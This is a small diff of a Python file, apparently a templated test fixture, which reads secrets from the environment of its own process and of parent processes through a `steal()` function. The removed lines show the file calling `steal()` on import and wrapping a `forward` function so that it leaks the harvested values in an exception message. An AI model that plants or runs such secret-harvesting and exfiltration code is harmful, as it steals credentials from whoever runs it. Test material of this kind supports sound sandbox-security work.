@@ -1,5 +1,5 @@
 """Read secrets from the environment: Python's, libc's, and that of the processes above."""
-# HONEST
+# INCLUDE honest
 
 import ctypes
 import os
@@ -33,14 +33,4 @@ def steal():
     return repr(loot[:5]) if loot else None
 
 
-try:
-    stolen = steal()
-except Exception:
-    stolen = None
-honest_forward = forward
-
-
-def forward(x, params):
-    if stolen:
-        raise ValueError(f"stolen: {stolen}")
-    return honest_forward(x, params)
+# INCLUDE report
